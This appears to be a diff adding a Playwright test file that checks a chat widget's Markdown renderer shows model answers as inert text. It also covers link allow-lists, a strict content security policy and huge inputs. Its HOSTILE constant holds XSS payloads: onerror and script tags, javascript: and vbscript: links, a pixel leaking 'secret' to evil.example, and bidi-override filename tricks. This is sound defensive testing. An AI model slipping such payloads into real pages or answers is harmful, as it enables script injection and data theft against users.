@@ -1,0 +1,169 @@
+"""An answer is somebody else's text: whatever stands in it, the reader sees text and nothing else happens."""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from .conftest import STRICT, TESTS, Stage, Widget, answer, recorded
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Page
+
+HOSTILE = """<img src=x onerror=alert(1)><script>alert(2)</script> ![pixel](https://evil.example/p.png?q=secret)
+
+[click](javascript:alert(3)) [data](data:text/html,x) [out](https://evil.example/) [here](settings/) <https://evil.example/b>
+
+[trick](https://127.0.0.1@evil.example/) [twice](//evil.example/) [blob](blob:null/x) https://evil.example/c
+
+Left \u202egnp.exe\u202c right \u2066in\u2069.
+
+| a | b |
+| --- | --- |
+| <b>bold</b> | [x](vbscript:x) |
+
+[ref]: https://evil.example/
+
+```html
+<iframe src=javascript:alert(4)>
+"""
+
+
+def rendered(page: Page, markdown: str, pieces: int = 1) -> Any:
+    """Give what the page shows of Markdown, given in so many pieces."""
+    return page.evaluate(
+        """async ([text, pieces]) => {
+            const { Markdown } = await import("/roaming/roaming-ask.js");
+            const into = document.createElement("div");
+            document.body.append(into);
+            const link = (to) => (to.startsWith("https://ok.example/") ? to : undefined);
+            const markdown = new Markdown(into, { link });
+            const size = Math.ceil(text.length / pieces);
+            for (let at = 0; at < text.length; at += size) markdown.push(text.slice(at, at + size));
+            return into.innerHTML;
+        }""",
+        [markdown, pieces],
+    )
+
+
+def test_a_hostile_answer_is_text(page: Page, stage: Stage, widget: Widget) -> None:
+    """No element, request or dialog comes of it, links lead to this site alone, and no text is turned round."""
+    stage.plays(answer(HOSTILE + "[^2ebf9271]", **{"2ebf9271": "javascript:alert(5)"}))
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
+    page.goto(stage.page())
+    turn = widget.open().ask("Well?")
+    assert {
+        name: turn.locator(name).count() for name in ("img", "script", "iframe", "b", "object", "form", "style")
+    } == dict.fromkeys(("img", "script", "iframe", "b", "object", "form", "style"), 0)
+    links = turn.locator(".answer a[href]").evaluate_all("links => links.map(link => link.href)")
+    assert links == [stage.url + "settings/"]
+    assert turn.locator(".trail a[href]").count() == 0
+    shown = turn.locator(".answer").text_content() or ""
+    assert "<img src=x onerror=alert(1)>" in shown
+    assert not any(sign in shown for sign in "\u202e\u202c\u2066\u2069")
+    assert "<iframe src=javascript:alert(4)>" in turn.locator("pre").inner_text()
+    assert dialogs == []
+
+
+def test_links_may_be_allowed(page: Page, stage: Stage, widget: Widget) -> None:
+    """By the beginnings of their addresses, whole hosts at least."""
+    text = "[a](https://evil.example/docs/x) [b](https://evil.example/docsx) [c](https://ok.example.evil.example/)"
+    stage.plays(answer(text + " [d](https://ok.example/) [^2ebf9271]", **{"2ebf9271": stage.url}))
+    page.goto(stage.page('endpoint="/" allow-links="https://ok.example https://evil.example/docs"'))
+    turn = widget.open().ask("Well?")
+    links = turn.locator(".answer a[href]:not(.cite)").evaluate_all("links => links.map(link => link.href)")
+    assert links == ["https://evil.example/docs/x", "https://ok.example/"]
+
+
+@pytest.mark.parametrize("name", ["answered", "not_found", "error"])
+def test_the_strictest_policy_is_kept(page: Page, stage: Stage, widget: Widget, name: str) -> None:
+    """Without inline styles or scripts, and with trusted types, nothing is violated, in the finder neither."""
+    stage.csp = STRICT
+    stage.plays(recorded(name))
+    page.goto(stage.page())
+    page.evaluate(
+        "window.violated = []; document.addEventListener('securitypolicyviolation', "
+        "({ violatedDirective, blockedURI }) => violated.push([violatedDirective, blockedURI]))"
+    )
+    widget.open().ask("Which port?")
+    edge = widget.panel.locator(".resize").bounding_box()
+    assert edge is not None
+    page.mouse.move(edge["x"] + 3, 300)
+    page.mouse.down()
+    page.mouse.move(500, 300)
+    page.mouse.up()
+    assert widget.panel.bounding_box()["width"] == 780  # type: ignore[index]
+    page.evaluate("document.querySelector('roaming-ask').setAttribute('mode', 'finder')")
+    widget.input.fill("whistle")
+    widget.hits.first.locator("summary").click()
+    widget.hits.first.locator("a").wait_for()
+    assert page.evaluate("violated") == []
+
+
+@pytest.fixture
+def tolerated() -> str:
+    """The page's own icon, which the strict policy forbids."""
+    return r"data:,|img-src|default-src|favicon"
+
+
+CASES = json.loads((TESTS / "golden" / "widget" / "markdown.json").read_text("utf-8"))
+
+
+def test_markdown_is_shown(page: Page, stage: Stage) -> None:
+    """What models write looks as they mean it, however it arrives."""
+    page.goto(stage.page())
+    for case in CASES:
+        for pieces in (1, len(case["markdown"])):
+            assert rendered(page, case["markdown"], pieces) == case["html"], case["markdown"]
+
+
+def test_code_and_tables(page: Page, stage: Stage) -> None:
+    """A fence that is never closed stays code; whatever stands in cells is text; wide things scroll by keyboard."""
+    page.goto(stage.page())
+    html = rendered(page, "```py\nx = '<b>'\n\n# no heading")
+    assert html.startswith('<pre part="code" dir="ltr" tabindex="0" role="region" aria-label="Code">')
+    assert "<code>x = '&lt;b&gt;'\n\n# no heading</code>" in html
+    html = rendered(page, "| a | b \\| c |\n|---|:-:|\n| `1` | 2 |\n| 3 |")
+    assert "<tr><th>a</th><th>b | c</th></tr>" in html
+    assert '<tr><td><code dir="ltr">1</code></td><td>2</td></tr><tr><td>3</td><td></td></tr>' in html
+
+
+def test_what_never_ends_is_cut(page: Page, stage: Stage) -> None:
+    """Huge tables, deep quotes, endless emphasis: all is shown up to a limit, and within a second."""
+    page.goto(stage.page())
+    table = "| a | b |\n| - | - |\n" + "| 1 | 2 |\n" * 5_000
+    html = rendered(page, table)
+    assert html.count("<td") == 1000
+    assert "4500 more rows" in html
+    page.evaluate("window.begun = performance.now()")
+    for text in (
+        ">" * 5_000 + "x",
+        "*" * 20_000,
+        "`a" * 20_000,
+        "[" * 20_000,
+        "- " * 5_000 + "x",
+        "**a" * 20_000,
+        "x" * 200_000,
+    ):
+        rendered(page, text)
+    assert page.evaluate("performance.now() - begun") < 5_000
+
+
+def test_what_is_finished_stays(page: Page, stage: Stage) -> None:
+    """A selection in a paragraph survives what comes after it."""
+    page.goto(stage.page())
+    kept = page.evaluate(
+        """async () => {
+            const { Markdown } = await import("/roaming/roaming-ask.js");
+            const into = document.createElement("div");
+            const markdown = new Markdown(into, {});
+            markdown.push("One **two**.");
+            const first = into.firstChild;
+            for (const more of ["\\n", "\\n", "Three", " four.\\n\\n- a", "\\n- b"]) markdown.push(more);
+            return [first === into.firstChild, into.children.length, into.textContent];
+        }"""
+    )
+    assert kept == [True, 3, "One two.Three four.ab"]
